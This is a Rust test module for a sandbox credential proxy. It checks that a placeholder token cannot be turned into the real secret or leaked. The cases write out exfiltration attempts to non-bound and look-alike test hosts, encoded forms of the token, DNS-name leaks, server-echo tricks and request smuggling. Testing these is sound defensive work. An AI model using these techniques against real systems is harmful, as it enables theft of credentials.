//! Credentials: the secret itself, and the placeholder that stands for it inside.

use base64::{Engine as _, prelude::BASE64_STANDARD};

use super::{
    Case,
    plan::{Plan, carry_out},
    reach::hidden,
};
use crate::{
    field::Field,
    inside::{Call, Inside},
    judge::{Attempt, Sighting, Trial},
    report::Group::Credentials,
    talk::{Client, Talk, get},
    told::Told,
    world::{BOUND, DENIED, KEYED, OTHER, PLAIN, READ, VARIABLE, WIDE, Words},
};

/// Where a secret could lie inside.
const PLACES: [&str; 8] = [
    "/workspace",
    "/home",
    "/tmp",
    "/var",
    "/run",
    "/etc",
    "/opt/agents",
    "/dev/shm",
];

pub(super) const CASES: &[Case] = &[
    Case {
        id: "A-CR-01",
        group: Credentials,
        tried: "the placeholder at other hosts, paths, methods and ports, over plain HTTP, in other places of a request",
        expected: "refused; no server is told it; in its place it becomes the secret",
        run: |field, _| Box::pin(misplaced(field)),
    },
    Case {
        id: "A-CR-01e",
        group: Credentials,
        tried: "the placeholder encoded: base64, percent, hexadecimal, JSON escapes, in pieces, in capitals",
        expected: "refused; no server is told it in any of these forms",
        run: |field, _| Box::pin(encoded(field)),
    },
    Case {
        id: "A-CR-01n",
        group: Credentials,
        tried: "the placeholder in names: looked up, connected to, as a server name",
        expected: "no question with it at the name server",
        run: |field, _| Box::pin(in_names(field)),
    },
    Case {
        id: "A-CR-02",
        group: Credentials,
        tried: "placeholders that are made up, cut off, or another sandbox's, in the right place",
        expected: "refused, and the secret is not lent; the own one works",
        run: |field, _| Box::pin(forged(field)),
    },
    Case {
        id: "A-CR-03",
        group: Credentials,
        tried: "have the server tell the secret: body, chunks, error, header, cookie, redirect, hexadecimal, HTTP/2",
        expected: "what comes back does not hold it; the server got it",
        run: |field, _| Box::pin(echoed(field)),
    },
    Case {
        id: "A-CR-04",
        group: Credentials,
        tried: "get the secret lent where it is not bound: plain HTTP, other paths and methods, after a lent request",
        expected: "the server gets no secret there; in its place it does",
        run: |field, _| Box::pin(unbound(field)),
    },
    Case {
        id: "A-CR-08",
        group: Credentials,
        tried: "look for the secret in files, in what processes were started with, in memory and socket tables",
        expected: "nowhere; the placeholder is found where it was put",
        run: |field, _| Box::pin(sought(field)),
    },
    Case {
        id: "A-CR-09",
        group: Credentials,
        tried: "hide a second request behind one that gets the secret",
        expected: "the server never reads it; one alone is answered",
        run: |field, _| Box::pin(smuggled(field)),
    },
    Case {
        id: "A-CR-10",
        group: Credentials,
        tried: "send the key elsewhere: a changed base URL, look-alike hosts, a redirect to another host",
        expected: "no server is told it; the bound host is",
        run: |field, _| Box::pin(diverted(field)),
    },
    Case {
        id: "A-CR-06",
        group: Credentials,
        tried: "look for the secret in what the installation writes: state directory, events of the runs",
        expected: "nowhere; the name of the secret is in the events",
        run: |field, _| Box::pin(written(field)),
    },
];

fn words(field: &Field) -> &Words {
    field.parts.canaries.world().words()
}

fn secret(field: &Field) -> &str {
    field.parts.canaries.world().secret()
}

/// The placeholder inside a sandbox; a made-up one where the Guard gave none.
fn placeholder(of: &Inside) -> String {
    let variables = of.session.variables();
    let own = variables.into_iter().find(|(name, _)| name == VARIABLE);
    own.map_or_else(|| format!("stk-placeholder-{}", "0".repeat(32)), |(_, value)| value)
}

/// A request with a header and perhaps a body, after which the connection ends.
fn request(method: &str, host: &str, path: &str, header: &str, body: &str) -> String {
    let length = if body.is_empty() {
        String::new()
    } else {
        format!("Content-Length: {}\r\n", body.len())
    };
    let header = if header.is_empty() {
        String::new()
    } else {
        format!("{header}\r\n")
    };
    format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\n{header}{length}Connection: close\r\n\r\n{body}")
}

fn bearer(value: &str) -> String {
    format!("Authorization: Bearer {value}")
}

/// In its place the placeholder becomes the secret, and a request without one gets it as well.
fn lent(field: &Field) -> Vec<Talk> {
    let Words { open: word, .. } = words(field);
    let with = request("GET", KEYED, "/keyed/open", &bearer(&placeholder(&field.realm)), "");
    let without = request("POST", KEYED, "/keyed/open", "", "abc");
    vec![
        Talk::secure("in its place", KEYED, with, word),
        Talk::secure("without one", KEYED, without, word),
    ]
}

/// That the bound server was told the secret, and none else.
fn told(field: &Field, trial: &mut Trial) {
    let who = field.parts.canaries.world().who_heard(secret(field));
    let ok = who == ["198.51.100.12"];
    let sighting = Sighting::new("servers that got the secret", "the bound one", format!("{who:?}"), ok);
    let list = if ok || who.is_empty() {
        &mut trial.control_host
    } else {
        &mut trial.host
    };
    list.push(sighting);
}

async fn carried(field: &Field, plan: Plan) -> Trial {
    field.parts.canaries.world().forget();
    carry_out(field, plan).await
}

async fn misplaced(field: &Field) -> Trial {
    let word = &words(field).open;
    let own = placeholder(&field.realm);
    let header = bearer(&own);
    let secure = |name: &str, host: &str, text: String| Talk::secure(name, host, text, word);
    let plain = |name: &str, host: &str, text: String| Talk::plain(name, host, text, word);
    let attacks = vec![
        secure("another host", READ, request("GET", READ, "/open", &header, "")),
        secure("another path", KEYED, request("GET", KEYED, "/elsewhere", &header, "")),
        secure(
            "out of the path",
            KEYED,
            request("GET", KEYED, "/keyed/../elsewhere", &header, ""),
        ),
        secure(
            "longer path",
            KEYED,
            request("GET", KEYED, "/keyedelsewhere", &header, ""),
        ),
        secure("another method", KEYED, request("DELETE", KEYED, "/keyed", &header, "")),
        plain(
            "plain, bound host",
            KEYED,
            request("GET", KEYED, "/keyed/open", &header, ""),
        ),
        plain(
            "plain, another host",
            PLAIN,
            request("GET", PLAIN, "/open", &header, ""),
        ),
        plain(
            "plain, below the wildcard",
            "yes.wide.world.test",
            request("GET", "yes.wide.world.test", "/", &header, ""),
        ),
        secure(
            "another header",
            KEYED,
            request("GET", KEYED, "/keyed/open", &format!("X-Key: {own}"), ""),
        ),
        secure(
            "a cookie",
            KEYED,
            request("GET", KEYED, "/keyed/open", &format!("Cookie: a=b; t={own}"), ""),
        ),
        secure(
            "a header's name",
            KEYED,
            request("GET", KEYED, "/keyed/open", &format!("X-{own}: 1"), ""),
        ),
        secure(
            "the path",
            KEYED,
            request("GET", KEYED, &format!("/keyed/{own}"), "", ""),
        ),
        secure(
            "the query",
            KEYED,
            request("GET", KEYED, &format!("/keyed/open?t={own}"), "", ""),
        ),
        secure("the body", KEYED, request("POST", KEYED, "/keyed/echo", "", &own)),
        secure(
            "a body's end",
            KEYED,
            request(
                "POST",
                KEYED,
                "/keyed/echo",
                "",
                &format!("{}{own}", "x".repeat(60_000)),
            ),
        ),
        plain(
            "a query in the clear",
            PLAIN,
            request("GET", PLAIN, &format!("/open?t={own}"), "", ""),
        ),
        plain(
            "a referrer",
            PLAIN,
            request("GET", PLAIN, "/open", &format!("Referer: https://a.test/?{own}"), ""),
        ),
    ];
    let mut trial = carried(
        field,
        Plan {
            // The last one is answered when its body has arrived, which holds what nobody may be told.
            attacks,
            fine: lent(field),
            denied: vec![format!("{READ}:443"), format!("{KEYED}:80"), format!("{PLAIN}:80")],
            silent: vec![own],
            ..Plan::default()
        },
    )
    .await;
    again(field, &mut trial).await;
    trial
}

/// What works inside once more, after the control has been forgotten: the bound server is told the secret.
async fn again(field: &Field, trial: &mut Trial) {
    field.parts.canaries.world().forget();
    if let Ok((inside, _)) = field.ferries().await {
        for talk in lent(field) {
            let attempt = crate::talk::talk(inside, &talk).await;
            super::plan::works(trial, &attempt);
        }
    }
    told(field, trial);
}

async fn encoded(field: &Field) -> Trial {
    let word = &words(field).open;
    let own = placeholder(&field.realm);
    let every = |form: &dyn Fn(u8) -> String| own.bytes().map(form).collect::<String>();
    let percent = every(&|byte| format!("%{byte:02x}"));
    let forms = [
        ("base64", BASE64_STANDARD.encode(&own)),
        ("base64, one off", BASE64_STANDARD.encode(format!("x{own}"))),
        ("base64, two off", BASE64_STANDARD.encode(format!("xy{own}"))),
        ("base64, basic", BASE64_STANDARD.encode(format!("user:{own}"))),
        ("percent", percent.clone()),
        ("percent, partly", own.replace('-', "%2D")),
        ("percent, twice", percent.replace('%', "%25")),
        ("hexadecimal", hex::encode(&own)),
        ("capitals", own.to_uppercase()),
        ("hexadecimal in capitals", hex::encode(&own).to_uppercase()),
        ("json escapes", every(&|byte| format!("\\u00{byte:02x}"))),
    ];
    let mut attacks = Vec::new();
    for (name, form) in &forms {
        let body = request("POST", KEYED, "/keyed/echo", "", form);
        attacks.push(Talk::secure(format!("body, {name}"), KEYED, body, word).or(form));
        let header = request("GET", KEYED, "/keyed/open", &format!("X-Key: {form}"), "");
        attacks.push(Talk::secure(format!("header, {name}"), KEYED, header, word));
        if !form.contains(['\\', '+', '/', '=']) {
            let query = request("GET", KEYED, &format!("/keyed/open?t={form}"), "", "");
            attacks.push(Talk::secure(format!("query, {name}"), KEYED, query, word));
        }
    }
    let (front, back) = own.split_at(20);
    let head = format!(
        "POST /keyed/echo HTTP/1.1\r\nHost: {KEYED}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    );
    let chunk = |text: &str| format!("{:x}\r\n{text}\r\n", text.len());
    let pieces = format!("{head}{}{}0\r\n\r\n", chunk(front), chunk(back));
    attacks.push(Talk::secure("chunks", KEYED, pieces, &own));
    let trailer = format!("{head}{}0\r\nX-Key: {own}\r\n\r\n", chunk("abc"));
    let silent = forms
        .iter()
        .map(|(_, form)| form.clone())
        .chain([own.clone()])
        .collect();
    let mut slow = Talk::secure("two segments", KEYED, format!("{head}{}", chunk(front)), &own);
    slow = slow.then(format!("{}0\r\n\r\n", chunk(back)));
    attacks.push(slow);
    carried(
        field,
        Plan {
            attacks,
            wild: vec![Talk::secure("trailer", KEYED, trailer, &own)],
            fine: lent(field),
            denied: vec![format!("{KEYED}:443")],
            silent,
            ..Plan::default()
        },
    )
    .await
}

async fn in_names(field: &Field) -> Trial {
    let Words { open: word, sink, .. } = words(field);
    let own = placeholder(&field.realm);
    let world = field.parts.canaries.world();
    let before = world.zone.asked(&own);
    let (wide, closed) = (format!("{own}.{WIDE}"), format!("{own}.denied.test"));
    let plan = Plan {
        attacks: vec![
            Talk::plain("below the wildcard", &wide, get(&wide, "/open"), word),
            Talk::secure("below the wildcard, tls", &wide, get(&wide, "/open"), word),
            Talk::plain("closed", &closed, get(&closed, "/open"), sink),
            Talk::secure("server name", PLAIN, get(PLAIN, "/open"), word).sni(&closed),
        ],
        fine: lent(field),
        silent: vec![own.clone()],
        ..Plan::default()
    };
    let mut trial = carried(field, plan).await;
    let asked = world.zone.asked(&own) - before;
    let sighting = Sighting::new(
        "questions with the placeholder at the name server",
        "0",
        asked.to_string(),
        asked == 0,
    );
    trial.host.push(sighting);
    trial
}

async fn forged(field: &Field) -> Trial {
    let word = &words(field).open;
    let own = placeholder(&field.realm);
    let others = [
        ("made up", format!("stk-placeholder-{}", "a".repeat(32))),
        ("another sandbox's", placeholder(&field.neighbour)),
        ("cut off", own[..own.len() - 1].to_owned()),
        ("one more", format!("{own}0")),
        ("capitals", own.to_uppercase()),
        ("two", format!("{own}{}", placeholder(&field.neighbour))),
    ];
    let attack = |(name, value): (&str, String)| {
        let text = request("GET", KEYED, "/keyed/open", &bearer(&value), "");
        Talk::secure(name, KEYED, text, word)
    };
    let mut attacks: Vec<Talk> = others.into_iter().map(attack).collect();
    let twice = format!("{}\r\n{}", bearer(&own), bearer("x"));
    attacks.push(Talk::secure(
        "two headers",
        KEYED,
        request("GET", KEYED, "/keyed/open", &twice, ""),
        word,
    ));
    let mut trial = carried(
        field,
        Plan {
            attacks,
            fine: lent(field),
            denied: vec![format!("{KEYED}:443")],
            silent: vec![placeholder(&field.neighbour), own],
            ..Plan::default()
        },
    )
    .await;
    again(field, &mut trial).await;
    trial
}

/// Ways to have a careless server repeat what it was told.
fn repeated(field: &Field, value: &str) -> Vec<Talk> {
    let secret = secret(field);
    let header = bearer(value);
    let talk = |name: &str, path: &str, wants: &str| {
        let text = request("GET", KEYED, &format!("{BOUND}/{path}"), &header, "");
        Talk::secure(name, KEYED, text, wants)
    };
    let mut all = vec![
        talk("body", "echo", secret),
        // Bytes of the answer stand three to a chunk.
        talk("chunks", "chunked", &secret[1..4]),
        talk("error", "error", secret),
        talk("header and cookie", "header", secret),
        talk("redirect", "redirect", secret),
        talk("hexadecimal", "hex", &hex::encode(secret)),
    ];
    let mut http2 = talk("http/2", "echo", secret);
    http2.say = vec![format!("GET https://{KEYED}{BOUND}/echo\nauthorization: Bearer {value}").into_bytes()];
    http2.tls = Some(Client {
        alpn: vec!["h2"],
        ..Client::naming(KEYED)
    });
    all.push(http2);
    let slow = format!("GET {BOUND}/open HTTP/1.1\r\nHost: {KEYED}\r\n{header}\r\n\r\n");
    let text = request("GET", KEYED, &format!("{BOUND}/echo"), &header, "");
    all.push(Talk::secure("the second answer", KEYED, slow, secret).then(text));
    all
}

async fn echoed(field: &Field) -> Trial {
    let own = placeholder(&field.realm);
    let text = request(
        "GET",
        KEYED,
        "/keyed/gzip",
        &format!("{}\r\nAccept-Encoding: gzip", bearer(&own)),
        "",
    );
    let mut trial = carried(
        field,
        Plan {
            attacks: repeated(field, &own),
            control: Some(repeated(field, secret(field))),
            wild: vec![Talk::secure("compressed", KEYED, text, secret(field)).or("content-encoding: gzip")],
            fine: lent(field),
            ..Plan::default()
        },
    )
    .await;
    again(field, &mut trial).await;
    trial
}

async fn unbound(field: &Field) -> Trial {
    let secret = secret(field);
    let value = |path: &str| request("GET", KEYED, path, "", "");
    let first = format!("GET /keyed/open HTTP/1.1\r\nHost: {KEYED}\r\n\r\n");
    let talks = |header: &str| {
        let ask = |method: &str, path: &str| request(method, KEYED, path, header, "");
        vec![
            Talk::plain("plain", KEYED, ask("GET", "/keyed/echo"), secret),
            Talk::secure("another path", KEYED, ask("GET", "/echo"), secret),
            Talk::secure("longer path", KEYED, ask("GET", "/keyed2/echo"), secret),
            Talk::secure("out of the path", KEYED, ask("GET", "/keyed/../echo"), secret),
            Talk::secure("another method", KEYED, ask("PUT", "/keyed/echo"), secret),
            Talk::secure("after a lent one", KEYED, first.as_bytes(), secret).then(ask("GET", "/echo")),
            Talk::plain(
                "another host",
                PLAIN,
                request("GET", PLAIN, "/keyed/echo", header, ""),
                secret,
            ),
            Talk::secure(
                "another host, read",
                READ,
                request("GET", READ, "/echo", header, ""),
                secret,
            ),
        ]
    };
    let mut trial = carried(
        field,
        Plan {
            attacks: talks(""),
            control: Some(talks(&bearer(secret))),
            fine: vec![Talk::secure(
                "the path",
                KEYED,
                value("/keyed/open"),
                &words(field).open,
            )],
            ..Plan::default()
        },
    )
    .await;
    again(field, &mut trial).await;
    trial
}

async fn smuggled(field: &Field) -> Trial {
    let Words { open: word, stray, .. } = words(field);
    let wants = format!("{word} /{stray}");
    let talk = |(name, text): (&str, String)| Talk::secure(name, KEYED, text, &wants);
    carried(
        field,
        Plan {
            attacks: hidden(KEYED, "/keyed/open", &format!("/{stray}"))
                .into_iter()
                .map(talk)
                .collect(),
            fine: lent(field),
            denied: vec![format!("{KEYED}:443")],
            ..Plan::default()
        },
    )
    .await
}

async fn diverted(field: &Field) -> Trial {
    let Words {
        open: word,
        sink,
        stray,
    } = words(field);
    let own = placeholder(&field.realm);
    let header = bearer(&own);
    let hosts = [
        DENIED.to_owned(),
        format!("{KEYED}.{stray}.test"),
        format!("{stray}{KEYED}"),
        "keyed.world.example.test".to_owned(),
        "198.51.100.66".to_owned(),
    ];
    let mut attacks = Vec::new();
    for host in &hosts {
        let name = host.replace(stray, "STRAY");
        let text = request("GET", host, "/keyed/open", &header, "");
        attacks.push(Talk::plain(format!("plain, {name}"), host, text.clone(), sink));
        attacks.push(Talk::secure(format!("tls, {name}"), host, text, sink).sni(DENIED));
    }
    let within = request("GET", DENIED, "/keyed/open", &header, "");
    attacks.push(Talk::secure("as the bound server's host", KEYED, within.clone(), word));
    attacks.push(Talk::plain("as an open server's host", PLAIN, within, word));
    let crossed = request("GET", KEYED, "/keyed/open", &header, "");
    attacks.push(Talk::secure("by the bound name, elsewhere", OTHER, crossed, word).sni(KEYED));
    let mut trial = carried(
        field,
        Plan {
            attacks,
            fine: lent(field),
            denied: vec![DENIED.to_owned(), format!("{KEYED}:443")],
            silent: vec![own],
            ..Plan::default()
        },
    )
    .await;
    again(field, &mut trial).await;
    trial
}

/// A text as the seeker is told it: it must not be in its own command line.
fn inverted(text: &str) -> String {
    text.bytes().map(|byte| format!("{:02x}", !byte)).collect()
}

async fn sought(field: &Field) -> Trial {
    let (secret, own) = (secret(field), placeholder(&field.realm));
    // One that was lent a moment ago; the ferry is up as well.
    let mut before = Trial::default();
    again(field, &mut before).await;
    let seek = |text: &str| Call::new("seek").with("not", inverted(text)).each("under", PLACES);
    let encoded = [BASE64_STANDARD.encode(secret), hex::encode(secret)];
    let inside = encoded
        .iter()
        .fold(seek(secret), |call, form| call.with("not", inverted(form)));
    let found = field.realm.run(&inside).await;
    // The control: the placeholder, which is in the ferry's environment, in a file, and in memory by that.
    let file = "/workspace/placeholder";
    let put = field.realm.handle.write_file(file, own.clone().into(), 0o644).await;
    let control = match put {
        Ok(()) => field.realm.run(&seek(&own)).await,
        Err(error) => Told::fault(error.to_string()),
    };
    let files = found.counts.get("files").copied().unwrap_or(0);
    let mut trial = super::trial(found, control);
    trial.control_host = before.control_host;
    let ok = files > 20;
    trial.control_host.push(Sighting::new(
        "files looked through",
        "more than 20",
        files.to_string(),
        ok,
    ));
    let all = ["seek.files", "seek.processes"];
    let got = |name: &&str| trial.control.iter().any(|attempt| attempt.got && attempt.name == *name);
    let both = all.iter().all(got);
    let seen = trial
        .control
        .iter()
        .map(|one| format!("{}: {}", one.name, one.why))
        .collect::<Vec<_>>();
    let sighting = Sighting::new("the placeholder", "found in files and processes", seen.join("; "), both);
    trial.control_host.push(sighting);
    trial
}

async fn written(field: &Field) -> Trial {
    let secret = secret(field);
    let mut trial = Trial::default();
    again(field, &mut trial).await;
    let events = field
        .parts
        .store
        .events(field.realm.run, 0, 10_000)
        .await
        .unwrap_or_default();
    let texts: Vec<String> = events
        .iter()
        .map(|event| serde_json::to_string(&event.data).unwrap_or_default())
        .collect();
    let encoded = [secret.to_owned(), BASE64_STANDARD.encode(secret), hex::encode(secret)];
    let holds = |bytes: &[u8], text: &str| bytes.windows(text.len()).any(|window| window == text.as_bytes());
    let files = crate::host::files_below(&field.parts.state_dir, 8);
    for (place, named) in [
        ("events", "events of the run"),
        ("files", "files of the state directory"),
    ] {
        let count = |text: &str| match place {
            "events" => texts.iter().filter(|own| own.contains(text)).count(),
            _ => files.iter().filter(|(_, bytes)| holds(bytes, text)).count(),
        };
        let held: usize = encoded.iter().map(|text| count(text)).sum();
        trial.host.push(Sighting::new(
            format!("the secret in {named}"),
            "0",
            held.to_string(),
            held == 0,
        ));
        // What stands there for certain: the host it was lent for, and the servers' word in a planted file.
        let word = if place == "events" { KEYED } else { field.token() };
        let held = count(word);
        let what = format!("'{}…' in {named}", word.chars().take(10).collect::<String>());
        trial
            .control_host
            .push(Sighting::new(what, "1 or more", held.to_string(), held > 0));
    }
    trial.inside.push(Attempt {
        name: "written".to_owned(),
        got: false,
        why: format!("{} files and {} events were looked through", files.len(), texts.len()),
        errno: None,
    });
    trial
}
